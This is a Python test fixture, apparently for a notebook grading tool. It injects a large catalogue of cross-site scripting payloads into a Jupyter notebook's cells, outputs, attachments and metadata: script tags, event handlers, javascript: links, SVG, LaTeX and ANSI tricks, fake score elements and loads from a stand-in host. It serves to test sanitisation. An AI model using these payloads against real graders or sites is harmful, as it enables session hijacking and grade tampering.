"""What a hostile student would write to run a script in the teacher's browser, or to make it load something."""

import base64

import nbformat

AWAY = "http://evil.invalid"
SPACE = "http://www.w3.org/2000/svg"
SVG = f'<svg xmlns="{SPACE}" onload="alert(1)"><script>alert(1)</script><image href="{AWAY}/svg"/></svg>'
COUPLE = base64.b64encode(SVG.encode()).decode()

TEXTS = {  # Markdown
    "script": "<script>alert(1)</script>",
    "script_between_lines": "A line\n\n<script>\nalert(1)\n\n</script>\n",
    "script_in_bold": "**<ScRiPt >alert(1)</sCrIpT >**",
    "svg_onload": "<svg onload=alert(1)></svg>",
    "svg_animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "img_away": f"<img src={AWAY}/img>",
    "picture_away": f"![x]({AWAY}/picture)",
    "picture_of_another_submission": "![x](../../../../formgrader/?path=/tmp)",
    "picture_svg": f"![x](data:image/svg+xml;base64,{COUPLE})",
    "picture_that_is_none": f"![x](data:image/png;base64,{COUPLE})",
    "picture_with_quotes": '![x"onerror="alert(1)](attachment:"onerror="alert(1))',
    "javascript_link": "[look](javascript:alert(1))",
    "javascript_link_in_html": "<a href=javascript:alert(1)>look</a>",
    "javascript_link_entities": "[look](java&#115;cript&colon;alert(1)) [look](&#x6A;avascript:alert(1))",
    "javascript_reference": "[look]\n\n[look]: javascript:alert(1)",
    "javascript_autolink": "<javascript:alert(1)>",
    "data_link": "[look](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link_to_the_formgrader": "[look](/formgrader/?path=/tmp/mine)",
    "link_title": "[look](/x 'y\" onmouseover=\"alert(1)')",
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe_away": f"<iframe src={AWAY}/frame></iframe>",
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/meta">',
    "form": f'<form action="{AWAY}/form"><input name=a autofocus onfocus=alert(1)><button>x</button></form>',
    "style_url": f"<style>body {{ background: url({AWAY}/style) }} @import '{AWAY}/import';</style>",
    "style_attribute": f'<b style="background:url({AWAY}/attribute)">x</b>',
    "link_stylesheet": f"<link rel=stylesheet href={AWAY}/sheet>",
    "object": f"<object data={AWAY}/object></object>",
    "embed": f"<embed src={AWAY}/embed>",
    "base": f"<base href={AWAY}/>",
    "video": f"<video src={AWAY}/video onerror=alert(1) autoplay></video>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "fake_marks": '<input class="score" id="why" value="1"><div class="nbgrader_cell" id="test_double">x</div>',
    "unclosed": '<b>x</b></div></div></body><img src="',
    "comment": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[><script>alert(1)</script>]]> <?x ><script>alert(1)</script>?>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "formula_tags": r"$\text{<img src=x onerror=alert(1)>}$ $$\mathrm{</script><script>alert(1)</script>}$$",
    "formula_href": r"$\href{javascript:alert(1)}{x}$",
    "formula_style": rf"$\style{{background:url({AWAY}/formula)}}{{x}} \class{{score}}{{y}} \cssId{{why}}{{z}}$",
    "formula_unicode": r"$\unicode{x3c}script\unicode{x3e} \require{html} \color{red\" onclick=\"alert(1)}{x}$",
    "formula_options": r'$\hspace{1em" onmouseover="alert(1)}x \genfrac{(}{)}{1pt" onclick="alert(1)}{}{a}{b}$',
    "formula_macro": r"$\def\a{xx}\newcommand{\b}{\a\a\a\a\a\a\a\a}\b\b\b$",
    "formula_in_a_picture": r'![$\text{"onerror=alert(1) }$](attachment:x.png) ![$"onerror=alert(1)$](x)',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "code": "```html\n<script>alert(1)</script>\n``` \n`<img src=x onerror=alert(1)>`",
    "fence_language": '```"><script>alert(1)</script>\nx\n```\n\n```mermaid\n<img src=x onerror=alert(1)>\n```',
    "heading": '# <img src=x onerror=alert(1)> "onclick=alert(1)',
    "table": "| <img src=x onerror=alert(1)> |\n|:-|\n| <script>alert(1)</script> |",
    "direction": "\u202egnp.tpircs\u202c \x1b]8;;javascript:alert(1)\x07look\x1b]8;;\x07",
}
OUTPUTS = {  # what the student's code displays
    "text/html": f"<script>alert(1)</script><img src={AWAY}/html onerror=alert(1)>",
    "image/svg+xml": SVG,
    "application/javascript": "alert(1)",
    "text/markdown": "<script>alert(1)</script> [x](javascript:alert(1))",
    "text/latex": r"$\href{javascript:alert(1)}{x}$ <script>alert(1)</script>",
    "text/vnd.mermaid": "<img src=x onerror=alert(1)>",
    "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"},
    "application/vnd.vega.v5+json": {"$schema": f"{AWAY}/vega", "data": {"url": f"{AWAY}/data"}},
    "application/vnd.plotly.v1+json": {"data": [{"text": "<script>alert(1)</script>"}]},
    "application/json": {"x": "</script><script>alert(1)</script>"},
    "application/pdf": COUPLE,
    "image/png": f'{COUPLE}" onerror="alert(1)',
    "image/jpeg": COUPLE,
    "image/gif": "R0lGODdhAQABAIAAAAAAAAAAACwAAAAAAQABAAACAkQBADs=",
}
PRINTED = {  # plain text that is none for a terminal or a page
    "tags": "<script>alert(1)</script>",
    "ansi": "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m \x1b[38;2;1;2;<script>alert(1)</script>m",
    "hyperlink": "\x1b]8;;javascript:alert(1)\x1b\\look\x1b]8;;\x1b\\",
    "end": "</pre></div><script>alert(1)</script>",
}


def attack(notebook):
    """Add every payload to a notebook, in new cells and in its metadata."""
    bundle = {"x.png": {"image/svg+xml": SVG, "image/png": COUPLE}, "%22onerror=%22alert(1)": {"text/html": SVG}}
    notebook.cells += [nbformat.v4.new_markdown_cell(f"{name}\n\n{text}") for name, text in TEXTS.items()]
    for cell in notebook.cells:
        cell.metadata.update(tags=['"><script>alert(1)</script>'], alt='"onerror="alert(1)', name="<script>")
        if cell.cell_type == "markdown":
            cell.attachments = bundle
    for text in [*TEXTS.values(), *PRINTED.values()]:
        notebook.cells.append(nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}))
    notebook.cells.append(code_that_displays(OUTPUTS, PRINTED))
    cell = nbformat.v4.new_code_cell("# </script></pre><script>alert(1)</script> <img src=x onerror=alert(1)>")
    cell.metadata["magics_language"] = '"><script>alert(1)</script>'
    notebook.cells.append(cell)
    notebook.metadata.update(
        title="</title><script>alert(1)</script>",
        authors=[{"name": "<script>alert(1)</script>"}],
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>alert(1)</script>"}}},
        language_info={"name": "python", "pygments_lexer": '"><script>alert(1)</script>'},
    )


def code_that_displays(outputs, printed):
    """Return a cell whose code displays and prints the payloads when it runs; it has done so already."""
    lines = ["from IPython.display import publish_display_data", "import sys"]
    cell = nbformat.v4.new_code_cell()
    for kind, data in outputs.items():
        options = {kind: {"isolated": True, "width": '1 onerror="alert(1)"', "filenames": {kind: f"{AWAY}/file"}}}
        lines.append(f"publish_display_data({{{kind!r}: {data!r}}}, {options!r})")
        cell.outputs.append(nbformat.v4.new_output("display_data", {kind: data}, metadata=options))
    for text in printed.values():
        lines += [f"print({text!r})", f"print({text!r}, file=sys.stderr)"]
        cell.outputs.append(nbformat.v4.new_output("stream", name="stdout", text=text))
    lines.append(f"raise type('<img src=x onerror=alert(1)>', (Exception,), {{}})({''.join(printed.values())!r})")
    cell.outputs.append(
        nbformat.v4.new_output("error", ename="<script>", evalue="<script>", traceback=list(printed.values()))
    )
    cell.source = "\n".join(lines)
    return cell
